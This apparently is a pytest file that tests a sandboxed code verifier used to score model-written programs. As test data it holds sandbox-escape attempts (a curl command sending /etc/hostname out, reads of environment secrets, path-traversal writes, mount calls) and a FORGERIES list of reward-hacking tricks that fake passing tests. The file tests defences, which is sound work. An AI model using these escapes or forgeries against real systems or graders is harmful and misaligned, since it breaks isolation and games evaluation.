"""The code verifier: real sandboxes, real escapes tried, real processes counted afterwards."""

import http.server
import os
import threading
import time
from pathlib import Path

import psutil
import pytest
from reward_samples import group

from verl.core.errors import ConfigError, DataError
from verl.rewards import RewardSource, Scorer, build_rewards
from verl.rewards.code import extract_code
from verl.rewards.sandbox import run_program, run_tests, why_not

needs_namespaces = pytest.mark.skipif(why_not() is not None, reason=f"this machine cannot isolate: {why_not()}")
ADD = ["assert add(1, 2) == 3", "assert add(-1, 1) == 0"]
GOOD = "def add(a,b): return a+b"


def score(responses, gold, **fields):
    rewards = build_rewards([RewardSource(verifier="code", **fields)])
    g = group(responses, answer=gold)
    rewards.check([g.task])
    Scorer(rewards).score([g])
    rewards.close()
    return [s.score for s in g.samples]


@needs_namespaces
def test_hostile_programs_cost_only_their_own_sample():
    """Field case D034: endless loop, surviving child, endless output, endless memory, and one right answer."""
    before = psutil.Process().memory_info().rss
    start = time.monotonic()
    responses = ["while True: pass", "import subprocess; subprocess.Popen(['sleep','617']); print(3)",
                 "print('x'*10**9)", "x=[0]*10**10", GOOD]
    assert score(responses, ADD, timeout_s=3.0) == [0, 0, 0, 0, 1]
    assert time.monotonic() - start < 30  # one limit of 3 s plus starts, on whatever machine; not 5 x 3 and not 600
    assert psutil.Process().memory_info().rss - before < 200 << 20
    assert [p for p in psutil.process_iter(["cmdline"]) if p.info["cmdline"] == ["sleep", "617"]] == []
    assert [p for p in psutil.Process().children(recursive=True) if "sandbox_child" in " ".join(p.cmdline())] == []


@needs_namespaces
def test_nothing_leaks_in_or_out(monkeypatch, tmp_path):
    """Field case D060: environment, network, files above the working directory and at home."""
    connections = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def do_POST(self):
            connections.append(self.path)

        def log_message(self, *_):
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    monkeypatch.setenv("API_TOKEN", "dummy-value")
    monkeypatch.setenv("HOME", str(tmp_path))
    port = server.server_port
    attempts = ["print(open('/proc/self/environ').read())",
                f"import os; os.system('curl -s -m 2 -d @/etc/hostname http://127.0.0.1:{port}/')",
                "open('../../escaped.txt','w').write('x')",
                "import os\nopen(os.path.expanduser('~/escaped'),'w').write('x')"]
    assert score(attempts, ADD) == [0, 0, 0, 0]
    direct = f"import urllib.request; print(urllib.request.urlopen('http://127.0.0.1:{port}/', b'x', 2))"
    outputs = [run_program(code, "", 10.0, True) for code in [*attempts, direct]]
    assert not any("dummy-value" in (out or "") for out in outputs)
    assert outputs[4] is None and connections == []
    assert not list(tmp_path.iterdir()) and not list(Path("/").glob("escaped*")) and not list(Path("/tmp").glob("escaped*"))
    server.shutdown()


@needs_namespaces
def test_the_inside_sees_neither_this_checkout_nor_other_processes_and_cannot_undo_its_walls():
    code = f"""
import ctypes, os
print(os.path.exists({str(Path(__file__))!r}), os.path.exists('/var'), os.path.exists('/home'))
print(len([p for p in os.listdir('/proc') if p.isdigit()]) if os.path.isdir('/proc') else 1)
libc = ctypes.CDLL(None)
remount, mount = libc.mount(b'none', b'/', None, 32 | 4096, None), libc.mount(b'tmpfs', b'/tmp', b'tmpfs', 0, None)
print(remount, mount, libc.sethostname(b'x', 1))
try: open('/usr/x', 'w')
except OSError: print('read-only')
"""
    assert run_program(code, "", 10.0, True) == "False False False\n1\n-1 -1 -1\nread-only\n"


FORGERIES = {
    "exit": "import os; os._exit(0)", "sys.exit": "import sys; sys.exit(0)", "print": "print('all tests passed')",
    "always equal": "class A:\n    def __eq__(self, o): return True\n    def __getattr__(self, n): return self\n"
                    "def add(a, b): return A()",
    "equal int": "class A(int):\n    def __eq__(self, o): return True\ndef add(a, b): return A(7)",
    "patched builtins": "import builtins\nbuiltins.AssertionError = type('E', (BaseException,), {})\ndef add(a, b): return 7",
    "write everywhere": "import os\nfor fd in range(3, 64):\n    for i in range(2):\n        try:\n"
                        "            os.write(fd, b'[%d, \"0\"]\\n' % i)\n        except OSError: pass\ndef add(a, b): return 7",
    "speaks the protocol": "import os, json\nfor fd in range(3, 64):\n    try:\n        os.write(fd, b'[\"names\", {}]\\n' * 50)\n"
                           "    except OSError: pass",
    "empty": "", "syntax error": "def add(", "raises": "def add(a, b): raise ValueError('3')",
}


@needs_namespaces
@pytest.mark.parametrize("kind", FORGERIES)
def test_a_forged_success_does_not_score(kind):
    assert score([FORGERIES[kind]], ADD) == [0]


@needs_namespaces
def test_the_code_cannot_lend_the_tests_its_own_builtins_or_modules():
    code = ("def add(a, b): return 7\ndef abs(x): return 0\n"
            "class math:\n    @staticmethod\n    def isclose(*a): return True")
    assert score([code, code], ["assert abs(add(1, 2) - 3) < 1e-6"]) == [0, 0]
    assert score([code], ["assert math.isclose(add(1, 2), 3)"]) == [0]
    assert score(["import math\ndef add(a, b): return a + b"], ["assert math.isclose(abs(add(1, 2)), 3)"]) == [1]


@needs_namespaces
def test_each_test_answers_with_its_own_nonce():
    tests = [["assert add(1, 2) == 3", None, "n0"], ["assert add(1, 2) == 4", None, "n1"], ["assert add(2, 2) == 4", None, "n2"]]
    assert run_tests(GOOD, tests, 10.0, True) == [[0, "n0"], [2, "n2"]]


@needs_namespaces
@pytest.mark.parametrize("code, tests", [
    ("class Solution:\n    def twoSum(self, a, t): return [0, 1]", ["assert Solution().twoSum([2, 7], 9) == [0, 1]"]),
    ("def f(x): return {1: (x, {2.5, None}), 'k': b'\\x00'}", ["assert f(True) == {1: (True, {2.5, None}), 'k': b'\\x00'}"]),
    ("def f(x):\n    if x < 0: raise ValueError('no')\n    return x ** 0.5",
     ["try:\n    f(-1)\nexcept ValueError:\n    pass\nelse:\n    assert False",
      "import math\nassert math.isclose(f(2), 2 ** 0.5)"]),
    ("def make():\n    return Node(3)\nclass Node:\n    def __init__(self, v): self.v = v\ndef read(n): return n.v",
     ["assert read(make()) == 3 and make().v == 3"]),
    ("def f(n):\n    from collections import Counter\n    return Counter(n)", ["assert f('aab') == {'a': 2, 'b': 1}"]),
    ("import sys\nprint('noise')\ndef f(x=1, *, y): return x + y",
     ["assert f(y=2) == 3 and [f(i, y=i) for i in range(3)] == [0, 2, 4]"]),
    ("def add(a, b): return a + b", {"test": "def check(candidate):\n    assert candidate(1, 2) == 3", "entry_point": "add"}),
    ("print(int(input()) * 2)", {"inputs": ["2\n", "5"], "outputs": ["4", "10\n"]}),
    ("def inf(): return float('inf')", '["assert inf() == float(\'inf\')"]'),
])
def test_right_answers_of_every_kind_score(code, tests):
    assert score([f"Sure:\n```python\n{code}\n```\nDone."], tests) == [1]


@needs_namespaces
def test_stdout_is_compared_and_partial_success_is_a_part():
    rewards = build_rewards([RewardSource(verifier="code")])
    g = group(["print(4)"], answer={"inputs": ["2", "5"], "outputs": ["4", "10"]})
    Scorer(rewards).score([g])
    assert g.samples[0].rewards["code"].parts == {"passed": 0.5} and g.samples[0].score == 0
    rewards.close()


def test_without_isolation_it_refuses_unless_asked(monkeypatch, capsys):
    import verl.rewards.code as module
    monkeypatch.setattr(module, "why_not", lambda: "user namespaces are disabled")
    with pytest.raises(ConfigError, match="cannot isolate it .user namespaces are disabled.*sandbox: off"):
        build_rewards([RewardSource(verifier="code")])
    assert score([GOOD, "while True: pass"], ADD, sandbox="off", timeout_s=2.0) == [1, 0]
    assert "can read and write this user's files, use the network" in capsys.readouterr().err
    assert os.path.isdir("/tmp")


@pytest.mark.parametrize("gold, message", [
    ("assert (", "is not Python"), ([], "neither a list of test sources"), ([" "], "a test is empty"),
    ({"inputs": ["1"], "outputs": []}, "not one output for each"), ("{broken", "looks like JSON"), (3, "neither a list"),
])
def test_tests_that_cannot_run_are_refused_at_load(gold, message):
    with pytest.raises(DataError, match=message):
        score([GOOD], gold, sandbox="off")


def test_the_last_fenced_block_is_the_code():
    assert extract_code("```python\na\n```\ntext\n```py\nb\n```") == "b\n" and extract_code("plain") == "plain"
